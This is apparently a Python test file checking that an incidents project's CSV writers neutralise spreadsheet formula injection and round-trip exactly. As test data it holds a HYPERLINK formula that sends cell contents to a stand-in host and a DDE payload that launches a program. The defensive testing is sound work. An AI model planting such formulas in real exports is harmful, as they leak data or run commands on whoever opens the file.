"""CSV cells a spreadsheet would run as a formula are neutralised by every CSV writer, and the
action table reads them back exactly: export -> load -> export writes the same bytes."""

from __future__ import annotations

import csv
import io
import tempfile
from datetime import UTC, datetime
from pathlib import Path

import attrs
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from incidents.domain.actions import ReportedAction
from incidents.formats.export.acled import write_acled
from incidents.formats.export.action_table import read_action_table, write_action_table
from incidents.formats.export.exported import ExportedAction
from incidents.formats.export.spreadsheet import FORMULA_STARTS, read_spreadsheet_cell, spreadsheet_cell
from incidents.formats.report_file import ReportContent
from incidents.gazetteer import NameIndex
from incidents.output.render import emit
from incidents.output.rows import Result, StrengthRow
from tests.strategies import file_reports, texts

RECORDED = datetime(2026, 1, 1, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'quoted", "''quoted"),
        ("'=1", "''=1"),
        ("-", "'-"),
        ("-12.5", "-12.5"),  # a plain negative number stays a number
        ("-3", "-3"),
        ("-1e-05", "'-1e-05"),
        ("Karma", "Karma"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_a_cell_that_would_run_gets_a_leading_quote(value: str, cell: str) -> None:
    assert spreadsheet_cell(value) == cell
    assert read_spreadsheet_cell(cell) == value


@given(st.text())
def test_the_rule_is_undone_exactly_and_leaves_nothing_that_runs(value: str) -> None:
    cell = spreadsheet_cell(value)
    assert read_spreadsheet_cell(cell) == value
    assert not cell.startswith(FORMULA_STARTS) or (cell == value and value[1:].replace(".", "", 1).isdigit())


# --- Every CSV writer -----------------------------------------------------------------------------

prefixes = st.sampled_from(["=", "+", "-", "@", "'", "''", "'=", "=-", "-1", "@@"])


@st.composite
def formula_reports(draw: st.DrawFn) -> list[ReportContent]:
    """Reports whose texts (outlet, title, quotes, the key) start as formulas, quotes and signs."""
    reports = draw(st.lists(file_reports(), min_size=1, max_size=3, unique_by=lambda report: report.key))
    made = []
    for report in reports:
        source = attrs.evolve(
            report.source,
            outlet=draw(prefixes) + report.source.outlet,
            title=draw(prefixes) + draw(texts),
        )
        actions = tuple(
            attrs.evolve(action, quote=draw(prefixes) + action.quote) for action in report.actions
        )
        made.append(attrs.evolve(report, key=draw(prefixes) + report.key, source=source, actions=actions))
    return list({report.key: report for report in made}.values())


def exported(reports: list[ReportContent]) -> list[ExportedAction]:
    return [
        ExportedAction(report.key, report.source, action, RECORDED)
        for report in reports
        for action in report.actions
        if isinstance(action, ReportedAction)
    ]


def table_bytes(items: list[ExportedAction], folder: Path) -> Path:
    path = folder / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        write_action_table(items, {}, stream)
    return path


@settings(max_examples=60, deadline=None)
@given(reports=formula_reports())
def test_export_load_export_of_an_action_table_is_byte_identical(reports: list[ReportContent]) -> None:
    with tempfile.TemporaryDirectory() as name:
        first = table_bytes(exported(reports), Path(name))
        written = first.read_bytes()
        for row in list(csv.reader(io.StringIO(written.decode("utf-8"))))[1:]:
            assert not any(cell.startswith(("=", "+", "@")) for cell in row), row
        loaded = read_action_table(first, NameIndex())
        assert [(r.key, r.source, r.actions) for r in loaded] == [
            (r.key, r.source, r.actions) for r in reports
        ]
        again = Path(name) / "again"
        again.mkdir()
        assert table_bytes(exported(loaded), again).read_bytes() == written


@given(reports=formula_reports())
@settings(max_examples=20, deadline=None)
def test_the_acled_csv_runs_nothing(reports: list[ReportContent]) -> None:
    stream = io.StringIO()
    write_acled(exported(reports), {}, stream)
    for row in list(csv.reader(io.StringIO(stream.getvalue())))[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or spreadsheet_cell(cell) == cell, row


def test_csv_output_of_a_query_runs_nothing() -> None:
    row = StrengthRow(
        side="=cmd|' /C calc'!A0",
        best=None,
        low=14000,
        high=18000,
        region="@Iraq",
        estimator="+US",
        occurred="2019-08-01/2019-08-28",
        source="-Rudaw",
        quote="'quoted",
    )
    stream = io.StringIO()
    emit(Result("Strength", StrengthRow.columns(), (row,), {}), "csv", stream)
    cells = next(iter(csv.DictReader(io.StringIO(stream.getvalue()))))
    assert cells["side"] == "'=cmd|' /C calc'!A0"
    assert (cells["region"], cells["estimator"], cells["source"]) == ("'@Iraq", "'+US", "'-Rudaw")
    assert cells["quote"] == "''quoted"
    assert cells["low"] == "14000"
